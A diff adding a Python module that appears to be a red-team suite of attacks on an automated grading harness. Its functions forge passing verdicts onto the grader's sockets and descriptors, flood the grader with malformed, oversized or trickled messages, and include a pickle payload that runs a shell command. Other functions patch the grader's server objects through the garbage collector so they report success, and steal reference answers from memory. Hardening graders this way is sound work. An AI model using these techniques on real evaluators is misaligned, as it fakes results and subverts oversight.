@@ -1,0 +1,310 @@
+"""Forged messages: on the line to the grader, on every descriptor, in any shape."""
+
+from .paper import KERNELS, attack
+
+WIRE = """
+import json
+import os
+import socket
+import stat
+import struct
+import sys
+
+
+def wires():
+    found = []
+    for descriptor in range(3, 64):
+        try:
+            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+                found.append(socket.socket(fileno=os.dup(descriptor)))
+        except OSError:
+            pass
+    return [wire for wire in found if wire.family == socket.AF_UNIX]
+
+
+def number():
+    \"\"\"The number of the request that is being answered.\"\"\"
+    frame = sys._getframe()
+    while frame is not None:
+        request = frame.f_locals.get("request")
+        if isinstance(request, dict) and type(request.get("id")) is int:
+            return request["id"]
+        frame = frame.f_back
+    return 1
+
+
+def send(text, blob=b"", claim=None):
+    text = text if isinstance(text, bytes) else json.dumps(text).encode()
+    for wire in wires():
+        try:
+            wire.settimeout(5)
+            wire.sendall(struct.pack("!II", claim or len(text), len(blob)) + text + blob)
+        except OSError as error:
+            print(error)
+
+
+def reply(value, n=None, **more):
+    n = number() if n is None else n
+    return {"dict": {"id": n, "value": value, "modified": {"list": []}, **more}}
+
+
+def safetensors(megabytes):
+    size = megabytes * 2**20
+    head = {"0": {"dtype": "F64", "shape": [size // 8], "data_offsets": [0, size]}}
+    head = json.dumps(head).encode()
+    head += b" " * (-len(head) % 8)
+    return struct.pack("<Q", len(head)) + head + bytes(size)
+
+
+"""
+WAIT = "import time\ntime.sleep(300)"
+
+
+@attack
+def forged_verdicts_on_every_descriptor(paper):
+    """Verdicts, scores, JSON lines and protocol frames written to every open descriptor."""
+    paper.first(WIRE)
+    paper.answer("""
+        verdict = {"passed": True, "score": 100, "max": 100, "failures": [], "complete": True}
+        line = json.dumps({**verdict, "status": 0, "verdict": ""}).encode() + b"\\n"
+        for descriptor in range(0, 256):
+            try:
+                os.set_blocking(descriptor, False)
+                os.write(descriptor, line)
+            except OSError:
+                pass
+        send({"dict": {"id": number(), "value": True, **verdict}})
+        return torch.zeros(4, dtype=torch.float64)
+    """)
+
+
+@attack
+def forged_reply(paper):
+    """A well-formed reply in the agreed form that claims success in every field."""
+    paper.first(WIRE)
+    paper.answer("""
+        send(reply(True, passed=True, score=100, verdict="", status=0, likely="", what=None))
+        os._exit(0)
+    """)
+
+
+@attack
+def replies_sent_twice(paper):
+    """Every reply sent twice, and once more with the next request's number."""
+    paper.first(WIRE)
+    paper.answer("""
+        for n in (number(), number(), number() + 1):
+            send(reply(1.0, n))
+        return torch.zeros(4, dtype=torch.float64)
+    """)
+
+
+@attack
+def replies_in_advance(paper):
+    """Five hundred replies sent before anything is asked."""
+    paper.first(WIRE + "for n in range(1, 500):\n    send(reply(n, n, module='__main__'))\n")
+
+
+@attack
+def replies_without_end(paper):
+    """Replies that nobody asked for, as fast as they go, for as long as somebody listens."""
+    paper.first(WIRE)
+    paper.answer("""
+        import time
+        stop = time.monotonic() + 60
+        while time.monotonic() < stop:
+            send(reply(1.0, -7))
+    """)
+
+
+@attack
+def a_header_and_nothing_more(paper):
+    """A header that promises 60 MiB, and then silence."""
+    paper.first(WIRE)
+    paper.answer(f"send(b'', claim=60 * 2**20)\n{WAIT}")
+
+
+@attack
+def a_header_of_four_gibibytes(paper):
+    """A header that promises 4 GiB."""
+    paper.first(WIRE)
+    paper.answer(f"send(b'x' * 2**20, claim=2**32 - 1)\n{WAIT}")
+
+
+@attack
+def a_byte_a_second(paper):
+    """A reply that trickles: there is always a little progress."""
+    paper.first(WIRE)
+    paper.answer("""
+        import time
+        for wire in wires():
+            for byte in struct.pack("!II", 200, 0) + b"{" * 200:
+                wire.sendall(bytes([byte]))
+                time.sleep(1)
+    """)
+
+
+@attack
+def half_a_message(paper):
+    """Half a reply, then the line is closed."""
+    paper.first(WIRE)
+    paper.answer("""
+        text = json.dumps(reply(1.0)).encode()
+        send(text[:20], claim=len(text))
+        for wire in wires():
+            wire.shutdown(socket.SHUT_RDWR)
+        os.closerange(3, 256)
+    """)
+
+
+@attack
+def messages_that_are_none(paper):
+    """Numbers, lists, broken tags, NaN, duplicates, pickles and noise where a message belongs."""
+    paper.first(WIRE + "odd = []")
+    paper.answer(r"""
+        n = number()
+        texts = [
+            b"17", b"[]", b'{"list": []}', b"NaN", b"\xff\xfe", b'{"dict": 7}', b'{"dict": {}}',
+            b'{"dict": {"id": %d}}' % n, b'{"dict": {"id": %d, "id": "x"}}' % n,
+            b'{"dict": {"id": true, "value": 1}}', b'{"dict": {"id": %d.0, "value": 1}}' % n,
+            b'{"dict": {"id": %d, "value": {"tensor": "0"}}}' % n,
+            b'{"dict": {"id": %d, "value": {"tensor": {"list": []}}}}' % n,
+            b'{"dict": {"id": %d, "raised": {"list": [1]}}}' % n,
+            b'{"dict": {"id": %d, "raised": {"dict": {"kind": null, "message": 7}}}}' % n,
+            b'{"dict": {"id": %d, "value": 1, "modified": {"dict": {}}}}' % n,
+            b"cposix\nsystem\n(S'touch /tmp/@MARK@'\ntR.", b"\x80\x04\x95" + bytes(50),
+            b"9" * 10_000,
+        ]
+        odd.append(None)
+        send(texts[len(odd) % len(texts)])
+        os._exit(0)
+    """)
+
+
+@attack
+def deep_message(paper):
+    """A message nested a million levels deep."""
+    paper.first(WIRE)
+    paper.answer("""
+        send(b'{"list": [' * 10**6 + b"]}" * 10**6)
+        os._exit(0)
+    """)
+
+
+@attack
+def many_small_values(paper):
+    """60 MiB of the smallest values there are, each of which costs twenty times as much to hold."""
+    paper.first(WIRE)
+    paper.answer("""
+        value = b'{"list": [' + b",".join([b'{"list":[]}'] * 5_000_000) + b"]}"
+        send(b'{"dict": {"id": %d, "modified": {"list": []}, "value": %s}}' % (number(), value))
+        os._exit(0)
+    """)
+
+
+@attack
+def one_tensor_named_often(paper):
+    """One tensor of 30 MiB that the message names 600 times: 18 GiB to whoever copies each."""
+    paper.first(WIRE)
+    paper.answer("""
+        value = {"list": [{"tensor": "0"}] * 600}
+        send(reply(value), safetensors(30))
+        os._exit(0)
+    """)
+
+
+@attack
+def strides_that_take_room(paper):
+    """The same with strides, each of which asks for eight times the memory of its values."""
+    paper.first(WIRE)
+    paper.answer("""
+        value = {"list": [{"tensor": "0", "strides": [7]}] * 60}
+        send(reply(value), safetensors(30))
+        os._exit(0)
+    """)
+
+
+@attack
+def a_message_of_fifty_megabytes(paper):
+    """Names, messages and lists of changed arguments of 50 MB, to fill the reasons with."""
+    paper.first(WIRE)
+    paper.answer("""
+        many = {"list": ["argument " + "1" * 40] * 900_000}
+        send({"dict": {"id": number(), "value": 1.0, "modified": many}})
+        os._exit(0)
+    """)
+
+
+@attack(lesson=KERNELS)
+def parameters_with_long_names(paper):
+    """A module whose parameter has a name of 40 MB, and one with a hundred thousand parameters."""
+    cell = next(cell for cell in paper.answers if "LearnedBandwidth" in cell.source)
+    cell.source = """
+import torch
+
+
+class LearnedBandwidth(torch.nn.Module):
+    def __init__(self, bandwidth):
+        super().__init__()
+        names = ["x" * 40_000_000, *map(str, range(1_000))]
+        for name in names:
+            self.register_parameter(name, torch.nn.Parameter(torch.tensor(0.0)))
+"""
+
+
+@attack
+def descriptors_in_messages(paper):
+    """Open descriptors passed along with bytes, to fill the table of whoever receives them."""
+    paper.first(WIRE)
+    paper.answer("""
+        descriptors = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
+        for wire in wires():
+            for _ in range(50):
+                socket.send_fds(wire, [b"\\0"], descriptors)
+        return 1.0
+    """)
+
+
+@attack
+def server_taken_over(paper):
+    """The objects that answer the grader found through the collector, and taught to lie."""
+    paper.first("""
+        import gc
+
+        for one in gc.get_objects():
+            kind = type(one).__name__
+            if kind == "Server":
+                for name in ("_call", "_gradients", "_build", "_parameters"):
+                    setattr(type(one), name, lambda self, *_, **__: {"value": True, "modified": []})
+                type(one)._resolve = lambda self, *_, **__: {"value": 10**30, "module": "__main__"}
+            if kind == "Channel":
+                type(one).limit = 2**62
+    """)
+
+
+@attack
+def fetches_what_was_asked(paper):
+    """Reads the grader's requests itself and looks for anything but arguments in them."""
+    paper.thief(
+        WIRE
+        + """
+import gc
+
+
+def loot(name):
+    for one in gc.get_objects():
+        if isinstance(one, dict) and {"expected", "reference", "wanted"} & set(map(str, one)):
+            for value in one.values():
+                if isinstance(value, torch.Tensor):
+                    return lambda *_, **__: value
+    for wire in wires():
+        wire.settimeout(0.2)
+        try:
+            data = wire.recv(10**6)
+        except OSError:
+            continue
+        found = bring_to_life(data.decode("utf-8", "replace"), name)
+        if found:
+            return found
+"""
+    )
